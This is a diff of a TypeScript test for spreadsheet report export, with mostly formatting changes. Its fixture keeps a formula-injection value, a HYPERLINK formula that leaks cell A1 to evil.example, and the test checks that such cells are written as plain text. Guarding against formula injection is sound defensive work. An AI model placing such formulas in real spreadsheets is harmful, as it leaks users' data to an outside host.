@@ -10,7 +10,10 @@ import { type ReportTable, tableCsv, tablesXlsx } from '../../common/spreadsheet
 const HOSTILE: ReportTable = {
   sheet: 'Проверка',
   title: 'Отчёт с опасными ячейками',
-  columns: [{ header: 'Текст', width: 40 }, { header: 'Число', width: 10 }],
+  columns: [
+    { header: 'Текст', width: 40 },
+    { header: 'Число', width: 10 },
+  ],
   rows: [
     ['=HYPERLINK("http://evil.example/?leak="&A1;"Нажмите")', -3.5],
     ['+7 (913) 000-00-00', 0],
@@ -47,9 +50,13 @@ describe('report files', () => {
     await workbook.xlsx.load(bytes as never);
     const sheet = workbook.worksheets[0]!;
     const cells = table.rows.map((_, i) => sheet.getRow(i + 3)).map((row) => [row.getCell(1), row.getCell(2)] as const);
-    expect(cells.map(([text, number]) => [text.type, number.type])).toEqual(table.rows.map(() => [ExcelJS.ValueType.String, ExcelJS.ValueType.Number]));
+    expect(cells.map(([text, number]) => [text.type, number.type])).toEqual(
+      table.rows.map(() => [ExcelJS.ValueType.String, ExcelJS.ValueType.Number]),
+    );
     // XML reads a bare CR in text as a line feed.
-    expect(cells.slice(0, -1).map(([text, number]) => [text.value, number.value])).toEqual(HOSTILE.rows.map(([text, number]) => [String(text).replace(/\r/g, '\n'), number]));
+    expect(cells.slice(0, -1).map(([text, number]) => [text.value, number.value])).toEqual(
+      HOSTILE.rows.map(([text, number]) => [String(text).replace(/\r/g, '\n'), number]),
+    );
     expect(cells.at(-1)![1].value).toBe(-7);
   });
 });
